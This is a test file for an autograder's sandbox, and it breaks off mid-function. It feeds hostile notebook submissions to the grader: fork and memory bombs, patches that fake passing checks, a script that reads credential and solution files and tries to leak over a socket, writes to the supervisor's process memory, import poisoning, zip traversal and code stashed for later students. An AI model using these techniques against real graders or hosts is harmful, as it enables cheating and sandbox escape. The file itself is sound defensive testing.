"""Hostile and broken submissions (issue: grading survives them). All of them are graded in
one batch beside an honest student, with tight limits; each case asserts its outcome: the
affected cells score 0 with status timeout, error or tampered and a clear message, the rest
of that notebook is graded normally, the honest student's grade is what it is alone, the
course folder and gradebook keep everyone else's results, and the batch finishes."""

import json
import os
import resource
import socket
import subprocess
import tempfile
import threading
import zipfile
from pathlib import Path

import nbformat
import pytest
from grading import as_bytes, grade, read_csv, scores, write_batch
from notebooks import REPO, SOURCES, reference_code, submission

from autograder.grading.sandbox import Limits, bubblewrap

pytestmark = pytest.mark.slow

A = "nn-review"
LIMITS = Limits(timeout=6, memory_mb=2048, output_kb=64)
SIGMOID = reference_code(A)["sigmoid"]
TESTS = [
    "test_sigmoid",
    "test_tanh",
    "test_relu",
    "test_dense_forward",
    "test_mlp_forward",
    "test_mlp_param_count",
    "test_neuron_gradients",
    "test_sgd_step",
]
WRONG_SIGMOID = "def sigmoid(x):\n    return 1 / (1 + torch.exp(x))\n"


def sigmoid_cell(code: str) -> nbformat.NotebookNode:
    return submission(A, {"sigmoid": code})


def edited(change) -> nbformat.NotebookNode:
    notebook = submission(A)
    change(notebook)
    return notebook


def cell(notebook, grade_id):
    return next(
        c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    )


def _delete(notebook, grade_id):
    notebook.cells.remove(cell(notebook, grade_id))


def _points(notebook, grade_id, points):
    cell(notebook, grade_id).metadata.nbgrader["points"] = points


def _duplicate(notebook, grade_id):
    copy = nbformat.from_dict(json.loads(json.dumps(cell(notebook, grade_id))))
    copy.source = "print('✓ passed')"
    notebook.cells.append(copy)


def _kernelspec(notebook):
    notebook.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}


def _edit_test(notebook):
    cell(notebook, "test_sigmoid").source = "print('✓ sigmoid: all 6 cases passed')"


def _rename(notebook):
    cell(notebook, "test_relu").metadata.nbgrader["grade_id"] = "renamed"


PATCHES = """
import builtins, sys, atexit, numpy.testing, torch
import autograder.checks as checks
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
for name in dir(checks):
    if name.startswith("check_"):
        setattr(checks, name, lambda *a, **k: print("✓ passed"))
builtins.AssertionError = type("Never", (BaseException,), {})
print = lambda *a, **k: None
sys.modules["autograder.checks"] = checks
atexit.register(lambda: sys.__stdout__.write("✓ all passed\\n"))
"""

THREAD = """
import threading
def sigmoid(x):
    found = {}
    worker = threading.Thread(target=lambda: found.update(y=torch.sigmoid(x)))
    worker.start()
    worker.join()
    return found["y"]
"""
SCIPY = """
def sigmoid(x):
    from scipy.special import expit
    return torch.as_tensor(expit(x.numpy()))
"""
SCRIPTED = """
@torch.jit.script
def sigmoid(x):
    return torch.sigmoid(x)
"""
BLIND_GUARD = """
import contextlib
import autograder.checks._guard as _g
import autograder.checks._student as _s
@contextlib.contextmanager
def _blind(forbid=None):
    yield _g.Watch()
_s.watching = _blind
def sigmoid(x):
    return torch.sigmoid(x)
"""
WATCHERS_OFF = """
import sys
from torch.utils._python_dispatch import _pop_mode
def sigmoid(x):
    _pop_mode()
    sys.setprofile(None)
    return torch.sigmoid(x)
"""
SCOPED_OFF = """
import sys
def sigmoid(x):
    profile = sys.getprofile()
    sys.setprofile(None)
    with torch._C._DisableTorchDispatch():
        y = torch.sigmoid(x)
    sys.setprofile(profile)
    return y
"""

SECRETS = [
    "solutions/nn-review/nn-review.ipynb",
    "course/gradebook.db",
    "submitted/honest/nn-review/nn-review.ipynb",
]

SNOOP = """
import os, socket
found = []
for path in PATHS:
    try:
        open(path, "rb").read(10)
        found.append("READ " + path)
    except OSError:
        found.append("blocked " + path)
    try:
        open(path, "ab").write(b"x")
        found.append("WROTE " + path)
    except OSError:
        found.append("blocked-write " + path)
for folder in FOLDERS:
    try:
        if os.listdir(folder):
            found.append("LISTED " + folder)
    except OSError:
        pass
    try:
        with open(os.path.join(folder, "planted.txt"), "w") as f:
            f.write("x")
        found.append("WROTE " + folder)
    except OSError:
        found.append("blocked-write " + folder)
found.append("SECRET " + os.environ.get("AUTOGRADER_TEST_SECRET", "unseen"))
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"leak")
    found.append("NETWORK open")
except OSError:
    found.append("blocked network")
print("\\n".join(found))
"""

HOSTILE = {
    # 1. infinite loops
    "loop-top-level": (
        sigmoid_cell(SIGMOID + "\nwhile True:\n    pass\n"),
        {"test_sigmoid": "error"},
    ),
    "loop-in-function": (
        sigmoid_cell("def sigmoid(x):\n    while True:\n        pass\n"),
        {"test_sigmoid": "timeout"},
    ),
    # 2. memory, processes
    "memory-bomb": (
        sigmoid_cell(
            "def sigmoid(x):\n    hog = torch.ones(40 * 2**30 // 4)\n    return hog[:1]\n"
        ),
        {"test_sigmoid": ("failed", "error")},
    ),
    "memory-bomb-top-level": (
        sigmoid_cell("hog = bytearray(40 * 2**30)\n" + SIGMOID),
        {"test_sigmoid": "error"},
    ),
    "fork-bomb": (
        sigmoid_cell(SIGMOID + "\nimport os\nwhile True:\n    os.fork()\n"),
        {},
    ),
    "background-processes": (
        sigmoid_cell(
            SIGMOID
            + "\nimport subprocess, os\nsubprocess.Popen(['sleep', '777'])\n"
            + "if os.fork() == 0:\n    os.setsid()\n    os.execvp('sleep', ['sleep', '778'])\n"
        ),
        {},
    ),
    # 3. ending the process
    "sys-exit": (
        sigmoid_cell("import sys\ndef sigmoid(x):\n    sys.exit(0)\n"),
        {"test_sigmoid": ("failed", "error")},
    ),
    "os-exit": (
        sigmoid_cell("import os\ndef sigmoid(x):\n    os._exit(0)\n"),
        {"test_sigmoid": "error"},
    ),
    "os-exit-top-level": (
        sigmoid_cell(SIGMOID + "\nimport os\nos._exit(0)\n"),
        {"test_sigmoid": "error"},
    ),
    "kill-own-kernel": (
        sigmoid_cell(
            "import os, signal\ndef sigmoid(x):\n    os.kill(os.getpid(), signal.SIGKILL)\n"
        ),
        {"test_sigmoid": "error"},
    ),
    "segfault": (
        sigmoid_cell("import ctypes\ndef sigmoid(x):\n    return ctypes.string_at(0)\n"),
        {"test_sigmoid": "error"},
    ),
    # 4. defeating the comparison (with a wrong sigmoid): patched at top level and in the call
    "patch-top-level": (sigmoid_cell(WRONG_SIGMOID + PATCHES), {"test_sigmoid": "failed"}),
    "patch-in-call": (
        sigmoid_cell(
            "def sigmoid(x):\n    exec(PATCHES_SOURCE)\n    return 1 / (1 + torch.exp(x))\n"
            f"PATCHES_SOURCE = {PATCHES!r}\n"
        ),
        {"test_sigmoid": "failed"},
    ),
    # 5. tampering with the notebook
    "edit-test-cell": (edited(_edit_test), {"test_sigmoid": "tampered"}),
    "delete-test-cell": (edited(lambda nb: _delete(nb, "test_tanh")), {"test_tanh": "tampered"}),
    "change-points": (edited(lambda nb: _points(nb, "test_relu", 100)), {"test_relu": "tampered"}),
    "rename-grade-id": (edited(_rename), {"test_relu": "tampered"}),
    "duplicate-grade-id": (
        edited(lambda nb: _duplicate(nb, "test_mlp_forward")),
        {"test_mlp_forward": "tampered"},
    ),
    "kernelspec": (edited(_kernelspec), {}),
    # 6. output
    "megabytes-of-output": (
        sigmoid_cell(
            SIGMOID + "\nprint('x' * 20_000_000)\nfor _ in range(20_000):\n    print('y' * 100)\n"
        ),
        {},
    ),
    "huge-image": (
        sigmoid_cell(
            SIGMOID
            + "\nimport matplotlib.pyplot as plt, numpy as np\n"
            + "plt.figure(figsize=(200, 200)); plt.imshow(np.random.rand(3000, 3000)); plt.show()\n"
            + "from IPython.display import display, Image\ndisplay(Image(data=b'\\x89PNG' + b'0' * 10**7))\n"
        ),
        {},
    ),
    # 7. a forbidden library call hidden from the guard, or the guard switched off
    "thread": (sigmoid_cell(THREAD), {"test_sigmoid": "failed"}),
    # NumPy's tanh where library activations are forbidden (a ufunc: no profiler sees it)
    "numpy-tanh": (
        submission(
            A,
            {
                "tanh": "def tanh(x):\n    return torch.from_numpy(np.tanh(x.numpy()))\n"
                "import numpy as np\n"
            },
        ),
        {"test_tanh": "failed"},
    ),
    "scipy-compiled": (sigmoid_cell(SCIPY), {"test_sigmoid": "failed"}),
    "torchscript": (sigmoid_cell(SCRIPTED), {"test_sigmoid": "failed"}),
    # the guard stays replaced for the rest of the notebook: every watched check fails
    "guard-replaced": (
        sigmoid_cell(BLIND_GUARD),
        {"test_sigmoid": "failed", "test_tanh": "failed", "test_relu": "failed"},
    ),
    "watchers-off": (sigmoid_cell(WATCHERS_OFF), {"test_sigmoid": "failed"}),
    # the function watcher sees torch.sigmoid with the other two off; flagged for review too
    "watchers-off-and-on": (sigmoid_cell(SCOPED_OFF), {"test_sigmoid": "failed"}),
    # 10. slow but correct, just under the limit
    "slow-but-correct": (
        sigmoid_cell(
            "import time\ntime.sleep(4)\n"
            + SIGMOID.replace("def sigmoid(x):\n", "def sigmoid(x):\n    time.sleep(0.3)\n", 1)
        ),
        {},
    ),
}

MALFORMED = {
    "not-json": b"this is not json",
    "json-not-notebook": b'{"hello": "world"}',
    "nbformat-3": json.dumps(
        {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": []}
    ).encode(),
    "empty": b"",
    "not-utf8": b'{"cells": "\xff\xfe\xfa"}',
    "huge": b'{"cells": [], "pad": "' + b"x" * (200 * 2**20) + b'"}',
}


@pytest.fixture(scope="module")
def listener():
    """A TCP server on the host's loopback that records whatever reaches it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    received = []

    def accept():
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            received.append(connection.recv(100))

    threading.Thread(target=accept, daemon=True).start()
    yield server.getsockname()[1], received
    server.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory, listener):
    port, _ = listener
    root = tmp_path_factory.mktemp("hostile")
    course, submitted = root / "course", root / "submitted"
    outside = Path(tempfile.mkdtemp(prefix="autograder-host-", dir="/var/tmp")) / "unrelated.txt"
    outside.write_text("a file of the grading machine's")
    paths = [
        str(REPO / "solutions/nn-review/nn-review.ipynb"),
        str(course / "gradebook.db"),
        str(submitted / "honest/nn-review/nn-review.ipynb"),
        str(REPO / "autograder/__init__.py"),
        "/etc/passwd",  # outside the allow-list: the host's files are not there at all
        str(outside),
    ]
    folders = [str(course), str(submitted / "honest"), str(REPO / "solutions"), "/tmp/work"]
    folders += ["/etc", "/var", str(outside.parent)]
    snoop = f"PATHS = {paths!r}\nFOLDERS = {folders!r}\nPORT = {port}\n" + SNOOP
    students = {"honest": submission(A), "snoop": sigmoid_cell(SIGMOID + "\n" + snoop)}
    students |= {name: notebook for name, (notebook, _) in HOSTILE.items()}
    students |= MALFORMED
    write_batch(submitted, A, students)
    (submitted / "no-notebook" / A).mkdir(parents=True)

    alone = root / "alone"
    write_batch(alone / "submitted", A, {"honest": submission(A)})
    _, graded_alone = grade(alone / "course", A, alone / "submitted", limits=LIMITS)

    honest_bytes = (submitted / "honest/nn-review/nn-review.ipynb").read_bytes()
    processes_before = _sleepers()
    os.environ["AUTOGRADER_TEST_SECRET"] = "s3cr3t"  # the grader's environment, e.g. a token
    try:
        summary, graded = grade(course, A, submitted, limits=LIMITS)
    finally:
        del os.environ["AUTOGRADER_TEST_SECRET"]
    return {
        "root": root,
        "course": course,
        "summary": summary,
        "graded": graded,
        "alone": graded_alone["honest"],
        "honest_bytes": honest_bytes,
        "submitted": submitted,
        "processes_before": processes_before,
    }


def _sleepers() -> list[str]:
    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if line.startswith("sleep 77")]


def test_the_batch_finishes_and_grades_everyone(batch):
    graded = batch["graded"]
    expected = {"honest", "snoop", *HOSTILE, *MALFORMED}
    assert expected <= set(graded)
    assert batch["summary"].graded == len(expected)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_submission_loses_only_the_affected_cells(batch, name):
    _, affected = HOSTILE[name]
    graded = batch["graded"][name]
    for gid in TESTS:
        result = graded[gid]
        if gid in affected:
            allowed = affected[gid] if isinstance(affected[gid], tuple) else (affected[gid],)
            assert result.status in allowed and result.points == 0, (name, gid, result)
            assert result.message.strip(), (name, gid)
        elif name == "fork-bomb" and gid == "test_sigmoid":
            # The bomb is stopped by the pids cgroup (forks fail) or by the cell's time limit
            # (forking a torch process is slow): in the second case the cell that defines
            # sigmoid did not finish, and only its test is lost.
            assert result.status == "passed" or (
                result.status == "error" and "'sigmoid' is not defined" in result.message
            ), result
        elif name == "guard-replaced":
            # Every check that judges a call (a forbidden routine, a probe) fails from then on.
            assert result.status == "passed" or (
                result.points == 0 and "switched off the checks" in result.message
            ), result
        else:
            assert result.status == "passed", (name, gid, result)


def test_messages_say_what_happened(batch):
    graded = batch["graded"]
    assert "time limit" in graded["loop-in-function"]["test_sigmoid"].message
    assert "stopped" in graded["os-exit"]["test_sigmoid"].message
    assert "changed" in graded["edit-test-cell"]["test_sigmoid"].message
    assert "deleted" in graded["delete-test-cell"]["test_tanh"].message
    assert "appears 2 times" in graded["duplicate-grade-id"]["test_mlp_forward"].message
    assert "sign in the exponent" in graded["patch-top-level"]["test_sigmoid"].message
    assert "can't start new thread" in graded["thread"]["test_sigmoid"].message
    assert "scipy" in graded["scipy-compiled"]["test_sigmoid"].message
    assert "built-in sigmoid" in graded["torchscript"]["test_sigmoid"].message
    assert "numpy.tanh" in graded["numpy-tanh"]["test_tanh"].message
    for name in ("guard-replaced", "watchers-off"):
        assert "switched off the checks" in graded[name]["test_sigmoid"].message, name
    rows = read_csv(batch["course"] / "cells.csv")
    assert {r["status"] for r in rows} <= {
        "passed",
        "failed",
        "error",
        "timeout",
        "tampered",
        "missing",
    }
    feedback = (batch["course"] / "feedback/edit-test-cell/nn-review/nn-review.html").read_text()
    assert "tampered" in feedback


def test_what_the_guard_cannot_rule_out_is_flagged_for_review(batch):
    from autograder.grading.course import Course

    course = Course(batch["course"], SOURCES)
    reviews = course.reviews(course.prepare(A))
    assert "honest" not in reviews and "slow-but-correct" not in reviews
    expected = {
        "watchers-off-and-on": ["interpreter's profiler", "torch's internals"],
        "guard-replaced": ["grader's own code"],
        "watchers-off": ["dispatch modes", "interpreter's profiler"],
        "thread": ["starts threads"],
        "patch-in-call": ["runs code built at run time"],
    }
    for student, reasons in expected.items():
        found = " | ".join(f.reason for f in reviews[student])
        assert all(reason in found for reason in reasons), (student, found)
        assert all(f.cell == "sigmoid" and f.code for f in reviews[student]), student
    report = (batch["course"] / "report.html").read_text()
    assert "Needs review" in report and "_DisableTorchDispatch" in report


def test_malformed_files_get_error_on_every_cell_with_the_reason(batch):
    reasons = {
        "not-json": "not valid notebook JSON",
        "json-not-notebook": "not a Jupyter notebook",
        "nbformat-3": "format 3",
        "empty": "empty",
        "not-utf8": "not UTF-8",
        "huge": "larger than the 20 MB limit",
    }
    for name, reason in reasons.items():
        cells = batch["graded"][name].values()
        assert all(c.status == "error" and c.points == 0 and reason in c.message for c in cells), (
            name
        )


def test_other_students_are_graded_as_if_alone(batch):
    assert scores(batch["graded"]["honest"]) == scores(batch["alone"])
    assert all(c.status == "passed" for c in batch["graded"]["honest"].values())


@pytest.mark.skipif(bubblewrap() is None, reason="needs bubblewrap (installed by `make test`)")
def test_student_code_cannot_read_write_or_connect(batch, listener):
    _, received = listener
    notebook = nbformat.read(batch["course"] / "autograded/snoop/nn-review/nn-review.ipynb", 4)
    text = "".join(
        o.get("text", "") for c in notebook.cells if c.cell_type == "code" for o in c.outputs
    )
    assert "blocked network" in text and "NETWORK" not in text
    assert "SECRET unseen" in text and "s3cr3t" not in text
    lines = set(text.splitlines())
    package, own_folder = str(REPO / "autograder/__init__.py"), "/tmp/work"
    assert f"READ {package}" in lines and f"WROTE {own_folder}" in lines, "controls: allowed"
    leaks = [line for line in lines if line.startswith(("READ", "WROTE"))]
    assert sorted(leaks) == sorted([f"READ {package}", f"WROTE {own_folder}"]), text
    assert sum(line.startswith("blocked") for line in lines) == 18
    # Of the host, only the allow-list is there: /etc holds just the loader's files.
    assert {line for line in lines if line.startswith("LISTED")} == {
        "LISTED /etc",
        f"LISTED {own_folder}",
    }, text
    assert received == []
    assert (batch["submitted"] / "honest/nn-review/nn-review.ipynb").read_bytes() == batch[
        "honest_bytes"
    ]
    assert not list(batch["root"].rglob("planted.txt"))
    assert not list((REPO / "solutions").rglob("planted.txt"))


def test_no_process_outlives_the_batch(batch):
    assert _sleepers() == batch["processes_before"]


def test_output_and_images_are_capped(batch):
    path = batch["course"] / "autograded/megabytes-of-output/nn-review/nn-review.ipynb"
    assert path.stat().st_size < 1 * 2**20
    assert "output cut off" in path.read_text()
    assert (
        batch["course"] / "autograded/huge-image/nn-review/nn-review.ipynb"
    ).stat().st_size < 2**20


def test_a_student_folder_without_a_notebook_is_reported_not_guessed(batch):
    assert "no-notebook" not in batch["graded"]
    assert any("no-notebook" in p and "no notebook" in p for p in batch["summary"].problems)


def test_the_gradebook_holds_exactly_one_submission_per_student(batch):
    import sqlite3

    with sqlite3.connect(batch["course"] / "gradebook.db") as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        rows = db.execute(
            "SELECT student_id, COUNT(*) FROM submitted_assignment GROUP BY student_id"
        ).fetchall()
    assert all(count == 1 for _, count in rows) and len(rows) == len(batch["graded"])


def test_zips_with_odd_names_are_read_safely(tmp_path):
    good = as_bytes(submission(A))
    archive = tmp_path / "odd.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("../escape_1_1_x.ipynb", good)
        z.writestr("/abs_2_2_x.ipynb", good)
        z.writestr("dup_3_3_x.ipynb", good)
        z.writestr("dup_3_3_x.ipynb", good)
        link = zipfile.ZipInfo("link_4_4_x.ipynb")
        link.external_attr = 0o120777 << 16
        z.writestr(link, "/etc/passwd")
        z.writestr("ünï cödé_5_5_x.ipynb", good)
        z.writestr("sp ace_6_6_x.ipynb", good)
        z.writestr("__MACOSX/._sp ace_6_6_x.ipynb", b"junk")
        z.writestr("ok_7_7_x.ipynb", good)
    summary, graded = grade(tmp_path / "course", A, archive, limits=LIMITS)
    problems = "\n".join(summary.problems)
    assert "outside the archive" in problems and "symbolic link" in problems
    assert "appears 2 times" in problems
    assert set(graded) == {"5", "6", "7"}
    assert all(c.status == "passed" for g in graded.values() for c in g.values())
    assert not (tmp_path / "escape_1_1_x.ipynb").exists()
    assert sorted(p.name for p in (tmp_path / "course/submitted").iterdir()) == ["5", "6", "7"]


# -- state one student could leave for the next (one worker: the same sandbox, in order) --------

POISON = """
import os
scratch = os.path.dirname(os.getcwd())  # the sandbox's private /tmp
for package in ("numpy", "IPython", "traitlets", "autograder", "torch", "nbformat"):
    folder = os.path.join(scratch, package)
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "__init__.py"), "w") as file:
        file.write("raise ImportError('poisoned by an earlier student')\\n")
    os.chmod(folder, 0o555)
os.makedirs("keep/deeper", exist_ok=True)
open("keep/deeper/x", "w").write("x")
os.chmod("keep/deeper", 0o555)
os.chmod("keep", 0o555)
os.chmod(os.getcwd(), 0o555)
os.chmod(scratch, 0o555)
"""
FORGE = """
import os, stat
from autograder.grading import wire
forged = [{"ready": True}, {"started": True}] + [
    {"output": "", "truncated": False, "traceback": "",
     "error": {"type_name": "Forged", "bases": ["Exception"], "message": "forged"}},
    {"kind": "undefined"},
] * 20
for fd in range(3, 256):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
        for message in forged:
            try:
                os.write(fd, wire.frame(message))
            except OSError:
                break
"""
PROC_MEM = """
import os
supervisor = os.getppid()
try:
    with open(f"/proc/{supervisor}/maps") as maps:
        regions = [line.split()[0] for line in maps if " rw-p " in line]
    with open(f"/proc/{supervisor}/mem", "r+b", buffering=0) as mem:
        for region in regions:
            start, end = (int(x, 16) for x in region.split("-"))
            try:
                mem.seek(start)
                mem.write(bytes(min(end - start, 2**20)))
            except OSError:
                pass
    print("MEMORY WRITTEN")
except OSError as error:
    print("MEMORY REFUSED", type(error).__name__)
"""
RAW_REPLY = """
import os, stat
from autograder.grading import wire
def _send(data):
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass
def _reply_raw(message):
    _send(wire.frame(message))
"""
OUTPUT_BOMB = RAW_REPLY + (
    "_reply_raw({'output': 'x' * 20_000_000, 'truncated': False, 'error': None, 'traceback': ''})\n"
)
# 10 MB of empty MessagePack arrays inside arrays: 10 million lists, over 500 MB, if read in full.
ITEMS = (
    '_inner = b"\\xdd" + (50_000).to_bytes(4, "big") + b"\\x90" * 50_000\n'
    '_bomb = b"\\xdd" + (200).to_bytes(4, "big") + _inner * 200\n'
)
REPLY_BOMB = (
    RAW_REPLY
    + ITEMS
    + "def sigmoid(x):\n    _send(wire.HEADER.pack(len(_bomb)) + _bomb)\n    os._exit(0)\n"
)
STOP = "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\nprint('SUPERVISOR STOPPED')\n"
SLOW = "import time\ntime.sleep(2.5)\n"
BUDGET = Limits(timeout=4, memory_mb=2048, output_kb=64, submission_seconds=10)
AFTER = {  # attacker (graded first), then an honest student in the same sandbox
    "a1-poison": sigmoid_cell(SIGMOID + POISON),
    "b1-forge": submission(A, {"sgd_step": reference_code(A)["sgd_step"] + FORGE}),
    "c1-proc-mem": sigmoid_cell(SIGMOID + PROC_MEM),
    "d1-sigstop": sigmoid_cell(SIGMOID + STOP),
    "e1-slow": submission(A, {gid: code + SLOW for gid, code in reference_code(A).items()}),
    "f1-output-bomb": sigmoid_cell(SIGMOID + OUTPUT_BOMB),
    "g1-reply-bomb": sigmoid_cell(REPLY_BOMB),
}


@pytest.fixture(scope="module")
def sequence(tmp_path_factory):
    root = tmp_path_factory.mktemp("sequence")
    students = dict(AFTER)
    students |= {name.replace("1-", "2-honest-"): submission(A) for name in AFTER}
    write_batch(root / "submitted", A, students)
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    summary, graded = grade(root / "course", A, root / "submitted", workers=1, limits=BUDGET)
    peak_growth_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before) / 1024
    return summary, graded, root / "course", peak_growth_mb


def _said(course, student: str, grade_id: str = "sigmoid") -> str:
    notebook = nbformat.read(course / "autograded" / student / A / f"{A}.ipynb", 4)
    return "".join(o.get("text", "") for o in cell(notebook, grade_id).outputs)


@pytest.mark.skipif(bubblewrap() is None, reason="needs bubblewrap (installed by `make test`)")
def test_no_student_can_leave_state_for_the_next(sequence):
    summary, graded, course, _ = sequence
    assert summary.graded == 2 * len(AFTER) and not summary.problems
    honest = {name: graded[name] for name in graded if "-honest-" in name}
    assert len(honest) == len(AFTER)
    for name, cells in honest.items():
        assert all(c.status == "passed" for c in cells.values()), (name, cells)
        assert sum(c.points for c in cells.values()) == 14, name
    assert "MEMORY REFUSED" in _said(course, "c1-proc-mem")


def test_a_submission_ends_within_its_time_budget(sequence):
    _, graded, course, _ = sequence
    record = json.loads((course / "autograded/e1-slow" / A / "autograder.json").read_text())
    assert record["seconds"] < BUDGET.submission_seconds + 2 * BUDGET.timeout
    slow = graded["e1-slow"]
    timed_out = [c for c in slow.values() if c.status == "timeout"]
    assert timed_out and all(c.points == 0 for c in timed_out)
    assert f"{BUDGET.submission_seconds:g} s" in timed_out[-1].message
    assert "whole notebook" in timed_out[-1].message
    assert graded["e2-honest-slow"]["test_sgd_step"].status == "passed"


def test_a_moodle_folder_cannot_take_another_students_id(tmp_path):
    from autograder.grading.collect import collect

    archive = tmp_path / "moodle.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("Evil Doer_77_assignsubmission_file_/42/nn-review/nn-review.ipynb", b"evil")
        z.writestr("Ann Lee_42_assignsubmission_file_/nn-review.ipynb", b"victim")
        z.writestr("Bo Ng_55_assignsubmission_file_/nn-review/nn-review.ipynb", b"bo")
    found = collect(archive, A, 2**20)
    assert {s: c.data for s, c in found.submissions.items()} == {
        "77": b"evil",
        "42": b"victim",
        "55": b"bo",
    }
    [problem] = found.problems
    assert "student 77's Moodle folder" in problem and "'42'" in problem


def test_reply_and_output_bombs_cost_the_grader_little(sequence):
    _, graded, course, peak_growth_mb = sequence
    assert peak_growth_mb < 400, f"the grader's peak memory grew by {peak_growth_mb:.0f} MB"
    bombed = course / "autograded/f1-output-bomb" / A / f"{A}.ipynb"
    assert bombed.stat().st_size < 2**20
    notice = len("\n[output cut off at 64 KB]\n")
    assert len(_said(course, "f1-output-bomb")) <= BUDGET.output_kb * 1024 + notice
    # Refused as it is read (wire.decode: ~0.2 s for this one), so the rest of the notebook is
    # graded within its time budget, which counts replays (a wall-clock bound here would
    # mostly measure the two sandbox restarts, seconds each on a loaded machine).
    bombed = graded["g1-reply-bomb"]
    assert bombed["test_sigmoid"].status == "error"
    assert all(c.status == "passed" for gid, c in bombed.items() if gid != "test_sigmoid"), bombed


FORGED_PROBES = """
import sys
import torch.nn.functional as _F
import autograder.checks.conv as _conv

def _facts(layer):
    def described(value):
        shape = None if value is None else tuple(value.shape)
        return {"is_parameter": value is not None, "is_none": value is None, "shape": shape}
    return {"is_module": True, "weight": described(layer.weight),
            "bias": described(layer.bias), "uniform": False}

def _forward_backward(layer, weight, bias, x, grad_out):
    profile = sys.getprofile()
    sys.setprofile(None)
    with torch._C._DisableTorchDispatch():
        w = weight.clone().requires_grad_()
        b = None if bias is None else bias.clone().requires_grad_()
        x = x.clone().requires_grad_()
        out = _F.conv2d(x, w, b, layer.stride, layer.padding)
        out.backward(grad_out)
    sys.setprofile(profile)
    grads = [x.grad, w.grad, None if b is None else b.grad]
    return {"output": out.detach(), "requires_grad": True, "grads": grads}

class Conv2d:  # plain tensors, no nn.Module: the forged probes are to vouch for it
    def __init__(self, in_channels, out_channels, kernel_size, stride=1, padding=0, bias=True):
        k = (kernel_size, kernel_size) if isinstance(kernel_size, int) else kernel_size
        self.stride, self.padding = stride, padding
        self.weight = torch.zeros(out_channels, in_channels, *k)
        self.bias = torch.zeros(out_channels) if bias else None
"""
REPLACE_PROBES = (
    "\n_conv.probe_parameters, _conv.probe_forward_backward = _facts, _forward_backward\n"
)
REWRITE_PROBES = (
    "\n_conv.probe_parameters.__code__ = _facts.__code__\n"
    "_conv.probe_forward_backward.__code__ = _forward_backward.__code__\n"
)


@pytest.fixture(scope="module")
def forged(tmp_path_factory):
    """Conv2d modules vouched for by forged probes, and an honest student after them."""
    root = tmp_path_factory.mktemp("forged")
    conv = "conv-layers"
    students = {
        "a-probes-replaced": submission(conv, {"Conv2d": FORGED_PROBES + REPLACE_PROBES}),
        "b-probes-rewritten": submission(conv, {"Conv2d": FORGED_PROBES + REWRITE_PROBES}),
        "c-honest": submission(conv),
    }
    write_batch(root / "submitted", conv, students)
    _, graded = grade(root / "course", conv, root / "submitted", workers=1, limits=LIMITS)
    return graded


def test_a_module_vouched_for_by_forged_probes_loses_its_cell(forged):
    for student in ("a-probes-replaced", "b-probes-rewritten"):
        lost = {gid for gid, cell in forged[student].items() if cell.status != "passed"}
        assert lost == {"test_Conv2d"}, (student, forged[student])
    assert "nn.Module" in forged["a-probes-replaced"]["test_Conv2d"].message
    assert "switched off the checks" in forged["b-probes-rewritten"]["test_Conv2d"].message
    assert all(cell.status == "passed" for cell in forged["c-honest"].values())


# -- code one student stashes for the next (issue 21, principle 3; one sandbox, in order) -----------

# The first student's working sigmoid, left wherever the sandbox lets a child write or keep
# something: files in /dev and the scratch folders, System V shared memory and a message
# queue, a POSIX message queue, a kernel keyring, a process serving it on an abstract socket.
STASH = r"""
import ctypes, os, socket, time
_code = b"def sigmoid(x):\n    return 1 / (1 + torch.exp(-x))\n"
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.syscall.restype = ctypes.c_long
_stored = []
for _folder in ("/dev", "/dev/shm", "/tmp", "/tmp/work"):
    try:
        with open(os.path.join(_folder, "stash.py"), "wb") as _file:
            _file.write(_code)
        _stored.append(_folder)
    except OSError:
        pass
_id = _libc.shmget(0x5EED, 4096, 0o1666)
if _id >= 0:
    ctypes.memmove(_libc.shmat(_id, None, 0), _code, len(_code))
    _stored.append("shm")
_id = _libc.msgget(0x5EED, 0o1666)
_message = ctypes.create_string_buffer(ctypes.sizeof(ctypes.c_long) + 4096)
ctypes.memmove(ctypes.addressof(_message) + ctypes.sizeof(ctypes.c_long), _code, len(_code))
ctypes.c_long.from_buffer(_message).value = 1  # the message's type
if _id >= 0 and _libc.msgsnd(_id, _message, 4096, 0) == 0:
    _stored.append("msg")
_queue = _libc.mq_open(b"/stash", os.O_CREAT | os.O_WRONLY, 0o666, None)
if _queue >= 0 and _libc.mq_send(_queue, _code, len(_code), 0) == 0:
    _stored.append("mq")
_ADD_KEY = {"x86_64": 248, "aarch64": 217}[os.uname().machine]
if _libc.syscall(_ADD_KEY, b"user", b"stash", _code, len(_code), -4) >= 0:
    _stored.append("keyring")
_ready, _done = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _server = socket.socket(socket.AF_UNIX)
        _server.bind(b"\0stash")
        _server.listen()
        os.write(_done, b"1")
        while True:
            _server.accept()[0].sendall(_code)
    os._exit(0)
if os.read(_ready, 1) == b"1":
    _stored.append("abstract socket")
print("STORED", " ".join(_stored))
"""
SCAVENGE = r"""
import ctypes, os, socket, torch
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.syscall.restype = ctypes.c_long
def _files():
    for folder in ("/dev", "/dev/shm", "/tmp", "/tmp/work"):
        try:
